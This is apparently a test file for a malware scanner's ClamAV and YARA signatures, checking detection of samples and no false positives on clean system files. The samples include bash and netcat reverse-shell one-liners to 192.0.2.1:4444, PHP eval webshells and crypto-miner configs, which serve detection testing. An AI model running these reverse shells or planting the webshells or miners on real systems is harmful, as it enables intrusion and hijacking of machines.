import { statSync } from 'node:fs'
import { copyFile, mkdir, readdir, readFile, rm, writeFile } from 'node:fs/promises'
import { basename, join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { ClamdEngine } from '@guardimesh/scanner/engines/clamav/clamd-engine.js'
import { buildFormatSignatures } from '@guardimesh/scanner/engines/formats/format-signatures.js'
import { processWorkers } from '@guardimesh/scanner/engines/process-worker.js'
import { WorkerPool } from '@guardimesh/scanner/engines/worker-pool.js'
import { readRuleFiles } from '@guardimesh/scanner/processes/obfuscation-scanner/rule-files.js'
import type { YaraResult, YaraTask } from '@guardimesh/scanner/processes/obfuscation-scanner/yara-worker.js'
import { FORMATS_FILE } from '@guardimesh/signature-format'
import { type RunningClamd, startClamd } from '@guardimesh/testbed/clamd.js'
import { eicarBytes } from '@guardimesh/testbed/eicar.js'
import { temporaryFolder } from '@guardimesh/testbed/temporary-folder.js'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { isExecutableOrScript } from '../../src/engines/obfuscation/executable-or-script.js'
import { never, openFile, quietLog } from './fixtures.js'

const STARTER_SET = fileURLToPath(new URL('../../signatures', import.meta.url))
/** Ordinary files of a node, which must not cause findings. */
const CLEAN_FOLDERS = ['/usr/bin', '/etc']
/** Larger programs slow down the test and contain code of the same compilers. */
const MAX_FILE_BYTES = 1024 * 1024
let folder: string
let clamd: RunningClamd
let engine: ClamdEngine

beforeAll(async () => {
  folder = await temporaryFolder('starter')
  const databaseFolder = join(folder, 'database')
  await mkdir(databaseFolder)
  for (const name of await readdir(join(STARTER_SET, 'clamav')))
    await copyFile(join(STARTER_SET, 'clamav', name), join(databaseFolder, name))
  await writeFile(join(databaseFolder, FORMATS_FILE), buildFormatSignatures())
  clamd = await startClamd({ folder: join(folder, 'clamd'), databaseFolder })
  engine = new ClamdEngine({ socketPath: clamd.socketPath, timeoutMs: 60_000, log: quietLog })
})
afterAll(async () => {
  engine[Symbol.dispose]()
  await clamd.stop()
  await rm(folder, { recursive: true, force: true })
})

const shell = (host: string) => `bash -i >& /dev/${'tcp'}/${host}/4444 0>&1`
test.each([
  { name: 'Eicar-Test-Signature', content: eicarBytes() },
  { name: 'Eicar-Test-Signature', content: `${eicarBytes()}\r\n` },
  { name: 'Guardimesh.Backdoor.ReverseShell.Bash', content: `#!/bin/sh\n${shell('192.0.2.1')}\n` },
  { name: 'Guardimesh.Backdoor.ReverseShell.Netcat', content: `mkfifo /tmp/f; cat /tmp/f|/bin/sh -i 2>&1${'|nc'} 192.0.2.1 4444 >/tmp/f` },
  { name: 'Guardimesh.Webshell.PHP.EvalRequest', content: `<?php @eval($_${'POST'}['x']); ?>` },
  { name: 'Guardimesh.Webshell.PHP.FilesMan', content: `<?php $default_action = ${"'Files"}Man';` },
  {
    name: 'Guardimesh.Miner.Xmrig.Config',
    content: `{ "donate-level": 1, "cpu": { "randomx": true }, ${'"pools"'}: [{ "url": "pool" }] }`,
  },
  { name: 'Guardimesh.Miner.Stratum.Login', content: `{"id":1,"jsonrpc":"2.0","method":"login",${'"params"'}:{"login":"x"}}` },
  { name: 'Guardimesh.Test.Harmless', content: 'Guardimesh harmless test file: detecting it shows that hash signatures work.\n' },
])('detects $name', async ({ name, content }) => {
  const path = join(folder, 'sample')
  await writeFile(path, content)
  using file = openFile(path)
  const verdict = await engine.scan(file, never)
  expect(verdict).toMatchObject({ kind: 'infected', matches: [{ signatureName: `${name}.UNOFFICIAL` }] })
})

const PADDING = { before: ' '.repeat(600), after: '# comment\n'.repeat(300_000) }
test.each([
  { name: 'Guardimesh.Backdoor.ReverseShell.Bash', content: `${PADDING.after}${shell('192.0.2.1')}\n${PADDING.after}` },
  { name: 'Guardimesh.Webshell.PHP.EvalRequest', content: `${PADDING.before}<?php\n${PADDING.after}@eval($_${'POST'}['x']); ?>` },
  { name: 'Guardimesh.Miner.Xmrig.Config', content: `${PADDING.after}{ "donate-level": 1, "randomx": true, ${'"pools"'}: [] }` },
])('detects $name in padded content', async ({ name, content }) => {
  const path = join(folder, 'sample')
  await writeFile(path, content)
  using file = openFile(path)
  expect(await engine.scan(file, never)).toMatchObject({ kind: 'infected', matches: [{ signatureName: `${name}.UNOFFICIAL` }] })
})

test.each([
  { name: 'a document that quotes EICAR', content: `The test file is ${eicarBytes()}` },
  { name: 'EICAR with a longer suffix than its definition allows', content: `${eicarBytes()}${' and more'.repeat(10)}` },
  { name: 'PHP that reads a request parameter', content: "<?php $name = $_POST['name']; echo htmlspecialchars($name);" },
])('does not detect $name', async ({ content }) => {
  const path = join(folder, 'sample')
  await writeFile(path, content)
  using file = openFile(path)
  expect(await engine.scan(file, never)).toEqual({ kind: 'clean' })
})

test('detects nothing with ClamAV on a clean node and in this repository', { timeout: 300_000 }, async () => {
  const kinds = new Map<string, string[]>()
  await eachCleanFile(4, async (path) => {
    using file = openFile(path)
    const { kind } = await engine.scan(file, never)
    kinds.set(kind, [...(kinds.get(kind) ?? []), path])
  })
  expect(kinds.get('infected')).toBeUndefined()
  expect(kinds.get('not-scanned')).toBeUndefined()
  expect(kinds.get('clean')?.length).toBeGreaterThan(500)
})

test('detects nothing with YARA and entropy on a clean node and in this repository', { timeout: 300_000 }, async () => {
  const rules = await readRuleFiles(join(STARTER_SET, 'yara'))
  const script = new URL('../../dist/processes/obfuscation-scanner/yara-worker.js', import.meta.url)
  const start = processWorkers<YaraTask, YaraResult>({ script, data: rules })
  await using workers = new WorkerPool({ start, workerCount: 2, timeoutMs: 60_000 })
  expect((await workers.run({ kind: 'load' })).broken).toEqual([])
  const matched: string[] = []
  let scanned = 0
  await eachCleanFile(2, async (path) => {
    const content = await readFile(path)
    if (!isExecutableOrScript(content.subarray(0, 512), basename(path))) return
    scanned += 1
    const { matches } = await workers.run({ kind: 'scan', content, fileName: basename(path) })
    for (const { rule } of matches) matched.push(`${rule} ${path}`)
  })
  expect(matched).toEqual([])
  expect(scanned).toBeGreaterThan(300)
})

/** Visits ordinary files of a node and of this repository concurrently. */
async function eachCleanFile(workerCount: number, visit: (path: string) => Promise<void>): Promise<void> {
  const repository = fileURLToPath(new URL('../../src', import.meta.url))
  const folders = await Promise.all(
    [...CLEAN_FOLDERS, repository, STARTER_SET].map((top) => readdir(top, { recursive: true, withFileTypes: true })),
  )
  const paths = folders
    .flat()
    .filter((entry) => entry.isFile())
    .map(({ parentPath, name }) => join(parentPath, name))
    .filter((path) => statSync(path).size <= MAX_FILE_BYTES)
  const worker = async () => {
    for (let path = paths.pop(); path !== undefined; path = paths.pop()) await visit(path)
  }
  await Promise.all(Array.from({ length: workerCount }, worker))
}
